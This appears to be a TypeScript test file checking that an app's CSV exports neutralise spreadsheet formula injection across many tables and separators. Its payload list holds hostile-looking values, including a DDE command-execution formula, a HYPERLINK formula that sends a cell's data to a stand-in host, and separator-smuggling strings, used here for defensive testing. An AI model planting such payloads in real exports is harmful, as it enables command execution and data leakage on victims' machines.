import { escapeLiteral } from "pg";
import { afterAll, expect, test } from "vitest";
import { appEntrances } from "../../../test/entrances.ts";
import { createOperator } from "../../../test/operator.ts";
import { setupServer } from "../../../test/server.fixture.ts";
import { get } from "../../../test/users.ts";
import { readCsv, splitCsv } from "./read-csv.fixture.ts";

const server = setupServer();

// None of it is sound: only SQL makes it.
afterAll(() =>
  server.pool.query(`
    DELETE FROM grants; DELETE FROM promo_codes; DELETE FROM promo_batches; DELETE FROM waitlist; DELETE FROM waitlist_invitations;
    DELETE FROM mails WHERE id < 0; DELETE FROM outbox WHERE kind = 'formulas'; DELETE FROM "user" WHERE id LIKE 'formula-%'`),
);

const PAYLOADS = [
  ...["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＠SUM(A1)"],
  ...[
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"open")',
    "+49 30 1234;=1+1",
    "a;=1+1",
    "a,=1+1",
  ],
  ...[
    "a\t=1+1",
    "a\r\n=1+1",
    "a\n@SUM(A1)",
    'a";"=1+1',
    '","=1+1',
    '";=1+1;"',
    '"\t-1+1',
    "a; \u200b=1+1",
    "ends;",
  ],
];

/** Puts every payload wherever the database takes it, so that each list has it. */
async function fillLists(): Promise<void> {
  await server.pool.query(`
    INSERT INTO promo_batches (id, name, size, duration_type, finished_at) VALUES ('formulas', 'x', 30, 'forever', now());
    INSERT INTO waitlist_invitations (id, size, tier, duration_months, finished_at) VALUES ('formulas', 30, 'basic', 1, now())`);
  for (const [index, text] of PAYLOADS.entries()) {
    const put = (statement: string) =>
      server.pool.query(
        statement.replaceAll("$TEXT", () => escapeLiteral(text)).replaceAll("$N", `${index}`),
      );
    await put(`
      INSERT INTO "user" (id, name, email) VALUES ('formula-$N', $TEXT, $TEXT || '$N@example.com');
      INSERT INTO waitlist (id, email, name, uses_today, token, referral_code, confirm_by, invitation_id, invitation_position)
        VALUES ('formula-$N', lower(btrim($TEXT || '$N@example.com')), $TEXT, $TEXT, rpad('formula-$N', 43, 'x'),
          'abcdefgh' || translate(lpad('$N', 2, '0'), '01', 'yz'), now() + interval '1 day', 'formulas', $N);
      INSERT INTO contact_messages (id, name, email, topic, message, content_hash, answer, answered_at, answered_by)
        VALUES ('formula-$N', $TEXT, $TEXT, 'idea', $TEXT, 'formula-$N', $TEXT, now(), $TEXT);
      INSERT INTO mails (id, recipient, subject, given_up_at, failure) VALUES (-1 - $N, $TEXT, $TEXT, now(), $TEXT);
      INSERT INTO outbox (kind, payload, last_error, run_at) VALUES ('formulas', '{}', $TEXT, now() + interval '1 day');
      INSERT INTO audit_log (actor, action, subject, after, reason)
        VALUES ($TEXT, 'test.tried', $TEXT, jsonb_build_object('it', $TEXT, $TEXT, -1), $TEXT);
      INSERT INTO promo_codes (code, tier, duration_type, note, batch_id)
        VALUES ('FORMULA$N', 'basic', 'forever', $TEXT, 'formulas'), (upper($TEXT) || 'X', 'basic', 'forever', NULL, NULL);
      INSERT INTO grants (id, user_id, tier, source, promo_code, expires_at)
        VALUES ('formula-$N', 'formula-$N', 'basic', 'promo', 'FORMULA0', now() + interval '1 day');
      INSERT INTO daily_figures (day, name, label, value)
        SELECT (now() AT TIME ZONE 'UTC')::date, 'views', kind || ':' || $TEXT, 7000 FROM unnest('{page,host,code}'::text[]) AS kind`);
  }
}

/** The columns of each file. */
const COLUMNS: Record<string, string> = {
  people: "email,name,confirmed,signed_up,tier,source,promo_code,until,renews,id",
  codes:
    "code,link,state,tier,duration,months,redeemed,max_uses,starts_at,expires_at,confirmed_only,once_per_mailbox,batch,note,created_at",
  redemptions: "email,tier,redeemed_at,expires_at,revoked_at,same_mailbox_as,user_id",
  waitlist: "email,name,uses_today,state,number,friends,brought_by,joined,confirmed,invited,code",
  messages: "sent,name,email,topic,message,answered,answered by,answer",
  mail: "recipient,subject,state,written,sent,given up,tries,why,mail",
  jobs: "kind,created,tries,next try,done,last error,job",
  log: "at,actor,action,subject,before,after,reason",
};

test("no list begins a formula in any cell, whatever separates cells for the reader", async () => {
  expect(PAYLOADS).toHaveLength(24);
  const { cookie } = await createOperator(server.pool);
  await fillLists();
  const paths = appEntrances().flatMap(({ method, path }) =>
    method === "GET" && path.endsWith(".csv") ? [path] : [],
  );
  expect(paths.length).toBeGreaterThan(9);
  const addresses = paths.flatMap((path) =>
    path.includes("funnel") ? ["page", "host", "code"].map((by) => `${path}?by=${by}`) : [path],
  );
  for (const address of addresses) {
    const path = address
      // Those of the test wait for nothing: they have not confirmed.
      .replace("waitlist.csv", "waitlist.csv?state=all")
      .replace(/batches\/[^/]+/, "batches/formulas")
      .replace(/invitations\/[^/]+/, "invitations/formulas")
      .replace(/codes\/[^/]+\/redemptions/, "codes/FORMULA0/redemptions");
    const answer = await get(server, path, cookie);
    expect([path, answer.status]).toEqual([path, 200]);
    const text = Buffer.from(await answer.arrayBuffer()).toString();
    expect([path, text.startsWith('\ufeff"')]).toEqual([path, true]);
    for (const separator of [",", ";", "\t"]) {
      const cells = [...readCsv(text, separator).flat(), ...splitCsv(text, separator)];
      expect([path, separator, cells.filter((cell) => /^\p{C}*[=+\-@\t\r\n＝＋－＠]/u.test(cell))]).toEqual([
        path,
        separator,
        [],
      ]);
    }
    const rows = readCsv(text, ",");
    const list = path.includes("invitations")
      ? "waitlist"
      : (/(\w+)\.csv(?:\?state=all)?$/.exec(path)?.[1] ?? "");
    if (!path.includes("funnel")) expect([path, rows[0]?.join()]).toEqual([path, COLUMNS[list]]);
    expect([path, new Set(rows.map(({ length }) => length)).size]).toEqual([path, 1]);
  }
});
